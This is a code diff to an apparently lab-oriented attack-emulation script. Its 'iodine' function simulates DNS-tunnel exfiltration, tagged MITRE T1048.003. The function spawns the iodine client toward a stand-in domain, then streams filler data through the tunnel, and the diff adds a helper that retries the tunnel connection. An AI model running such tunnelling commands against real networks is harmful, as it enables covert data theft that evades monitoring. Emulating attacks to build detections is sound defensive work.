@@ -100,15 +100,21 @@ def iodine(stage: Stage, me: Host, rng: random.Random, *, seconds: float = 60.0,
     stage.sleep(2)
     with stage.activity("exfiltration", "T1048.003", "iodine", [me], [far], "udp", [53]):
         stage.spawn(["iodine", "-f", "-P", "lab", "-r", "-T", "TXT", "-I", "2", far.address, "t.example.org"])
-        stage.sleep(6)
-        with suppress(OSError), wire.connect(f"{net}.1", 9000, timeout=10) as link:
-            sent = 0
+        with _through(stage, f"{net}.1") as link:
             for _ in range(int(seconds)):
                 link.sendall(wire.filler(int(rate * rng.uniform(0.5, 1.5))))
-                sent += 1
                 stage.sleep(1)
-            stage.note(f"iodine: {sent} pieces sent")
+            stage.note("iodine: everything was sent")
         stage.sleep(2)
+
+
+def _through(stage: Stage, address: str) -> socket.socket:
+    """A connection inside the tunnel, once that is up; OSError when it isn't within a minute."""
+    for _ in range(15):
+        stage.sleep(3)
+        with suppress(OSError):
+            return wire.connect(address, 9000, timeout=8)
+    raise OSError("the tunnel did not come up")
 
 
 def _iodined(stage: Stage, net: str) -> None:
